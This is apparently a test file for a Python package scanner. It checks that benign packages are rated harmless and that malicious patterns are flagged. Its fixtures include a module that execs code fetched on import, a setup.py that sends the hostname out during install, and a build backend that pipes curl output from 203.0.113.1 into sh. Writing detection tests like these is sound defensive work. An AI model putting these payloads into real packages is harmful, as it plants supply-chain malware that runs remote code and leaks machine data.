// Packages judged by their own files: where a program stands decides as much as what it does, and a name alone nothing.

import { indexKnowledge } from '@sentinel/analysis'
import { loadKnowledge } from '@sentinel/knowledge'
import { loadParser } from '@sentinel/scanner'
import { beforeAll, describe, expect, it } from 'vitest'
import { filesOf } from '../files.ts'
import { createConfusionFinder } from '../names/nameConfusion.ts'
import { capabilityDifference } from './capabilities.ts'
import { contentsOfArchive, contentsOfFolder } from './contents.ts'
import { type JudgeDeps, judgeContents } from './judgeContents.ts'
import { runsOnImport } from './runsOnImport.ts'

let deps: JudgeDeps
beforeAll(async () => {
  const popular = ['requests', 'colorama']
  deps = {
    engine: { parser: await loadParser(), knowledge: indexKnowledge(loadKnowledge()) },
    names: { popular: new Set(popular), confusionOf: createConfusionFinder(popular) },
  }
})

const about = (name: string) =>
  `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\nSummary: A thing.\nAuthor: A\nHome-page: https://h.example\n\nText.\n`
function judge(tree: Record<string, string>, name = 'good-thing') {
  const isSources = 'setup.py' in tree || 'pyproject.toml' in tree
  const said = isSources ? 'PKG-INFO' : 'x-1.0.dist-info/METADATA'
  const placed = Object.entries({ ...tree, [said]: about(name) }).map(([path, text]) => [`/p/${path}`, text])
  const contents = contentsOfFolder(filesOf(Object.fromEntries(placed)), '/p')
  if (!contents) throw new Error('no contents')
  return judgeContents(contents, deps)
}
const client =
  'import requests\n\n\ndef get(path):\n    return requests.get("https://api.example.org/" + path).json()\n'

describe('a package', () => {
  it.each<[string, string, Record<string, string>]>([
    ['asks a service when it is told to', 'none', { 'a/__init__.py': client }],
    [
      'fetches code as soon as it is imported',
      'high',
      { 'a/__init__.py': 'import requests\nexec(requests.get("https://h.invalid/a").text)\n' },
    ],
    [
      'tells of the machine while it is installed',
      'high',
      {
        'setup.py':
          'import socket, urllib.request\nurllib.request.urlopen("https://h.invalid/?" + socket.gethostname())\nfrom setuptools import setup\nsetup()\n',
      },
    ],
    [
      'reads its version and asks pkg-config',
      'none',
      {
        'setup.py':
          'import subprocess\nfrom setuptools import setup\nsubprocess.check_output(["pkg-config", "--libs", "z"])\nexec(open("a/version.py").read())\nsetup()\n',
      },
    ],
    [
      'starts a program with every Python',
      'high',
      { 'a.pth': 'import os; os.system("true")\n', 'a/__init__.py': '' },
    ],
    ['adds a folder to the path', 'none', { 'a.pth': './a\n', 'a/__init__.py': '' }],
    [
      'has a backend of its own that fetches programs',
      'critical',
      {
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n',
        'b.py': 'import os\ndef build_wheel(*_):\n    os.system("curl -s http://203.0.113.1/x | sh")\n',
      },
    ],
  ])('that %s is %s', (_what, severity, tree) => {
    expect(judge(tree).severity).toBe(severity)
  })

  it('is not held to its name alone, and held to it where it does odd things', () => {
    const quiet = judge({ 'a/__init__.py': client }, 'reqeusts')
    expect(quiet.severity).toBe('none')
    const odd = { 'a/__init__.py': 'import requests\nrequests.get("https://h.invalid/")\n' }
    expect(judge(odd, 'reqeusts').score).toBeGreaterThan(judge(odd).score)
  })

  it('that can do more than its older version is told of by what is new', () => {
    const [before, after] = [
      judge({ 'a/__init__.py': '' }),
      judge({ 'a/__init__.py': 'import os\nos.system("true")\n' }),
    ]
    expect(capabilityDifference(before.capabilities, after.capabilities)).toMatchObject([
      { kind: 'new', role: 'import', does: 'process.start' },
    ])
    expect(capabilityDifference(after.capabilities, after.capabilities)).toEqual([])
  })
})

it('bytes that are no archive are no package', () => {
  expect(contentsOfArchive('a.tar.gz', Buffer.from('nothing'))).toBeUndefined()
  expect(contentsOfArchive('a.whl', Buffer.from([0x1f, 0x8b, 0, 0]))).toBeUndefined()
})

it('what runs on import is what stands outside of functions, and what is called from there', () => {
  const runs = runsOnImport('import os\ndef a():\n    one()\ndef b():\n    two()\ndef c():\n    a()\nc()\n')
  expect([1, 3, 5, 7, 8].map(runs)).toEqual([true, true, false, true, true])
})
